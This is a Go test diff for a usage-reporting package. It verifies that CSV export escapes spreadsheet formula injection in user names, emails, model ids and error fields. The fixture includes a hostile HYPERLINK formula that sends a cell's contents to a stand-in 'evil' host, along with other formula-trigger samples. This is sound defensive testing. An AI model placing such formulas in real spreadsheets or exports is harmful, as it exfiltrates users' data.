@@ -3,6 +3,7 @@ package jobs_test
 import (
 	"bytes"
 	"encoding/csv"
+	"fmt"
 	"testing"
 
 	"llmmeter/jobs"
@@ -54,5 +55,41 @@ func TestReportCSV(t *testing.T) {
 		if len(recs[i]) > 1 && recs[i][1] == "" {
 			t.Errorf("row %d has no id", i)
 		}
+	}
+}
+
+// TestReportCSVFormulaCells: a user's name and email, a model id and an
+// error's type and message come from callers; one beginning with = + - @
+// tab or CR gets a leading ', so a spreadsheet shows it instead of running
+// it, while the numbers stay as they are.
+func TestReportCSVFormulaCells(t *testing.T) {
+	hostile := `=HYPERLINK("http://evil/?"&A1,"x")`
+	rep := jobs.Report{Kind: "daily", PeriodKey: "2024-01-15", Body: map[string]any{
+		"byUser": []map[string]any{
+			{"userId": "u_0123456789abcdef", "userName": hostile, "userEmail": "@evil.example", "requests": int64(2), "successful": int64(2), "failed": int64(0), "totalTokens": int64(30), "costNanoUsd": int64(5)},
+		},
+		"byModel":   []map[string]any{{"model": "+evil/model", "requests": int64(2), "successful": int64(2), "failed": int64(0), "totalTokens": int64(30), "costNanoUsd": int64(5)}},
+		"topErrors": []map[string]any{{"errorType": "-x", "statusCode": 502, "count": int64(1), "sample": "\t=1+1"}},
+	}}
+	var buf bytes.Buffer
+	if err := jobs.ExportCSV(&buf, rep); err != nil {
+		t.Fatal(err)
+	}
+	// Quoted as CSV quotes it, with the ' inside the quotes.
+	if want := `user,u_0123456789abcdef,"'=HYPERLINK(""http://evil/?""&A1,""x"")",'@evil.example,2024-01-15,2,2,0,30,0.000000005,`; !bytes.Contains(buf.Bytes(), []byte(want)) {
+		t.Errorf("CSV lacks %s:\n%s", want, buf.String())
+	}
+	recs, err := csv.NewReader(&buf).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := [][]string{
+		jobs.ReportCSVColumns,
+		{"user", "u_0123456789abcdef", "'" + hostile, "'@evil.example", "2024-01-15", "2", "2", "0", "30", "0.000000005", "", "", "", "", "", ""},
+		{"model", "'+evil/model", "", "", "2024-01-15", "2", "2", "0", "30", "0.000000005", "", "", "", "", "", ""},
+		{"error", "'-x 502", "", "", "2024-01-15", "1", "", "1", "", "", "", "", "", "", "", "'\t=1+1"},
+	}
+	if fmt.Sprintf("%q", recs) != fmt.Sprintf("%q", want) {
+		t.Errorf("got  %q\nwant %q", recs, want)
 	}
 }
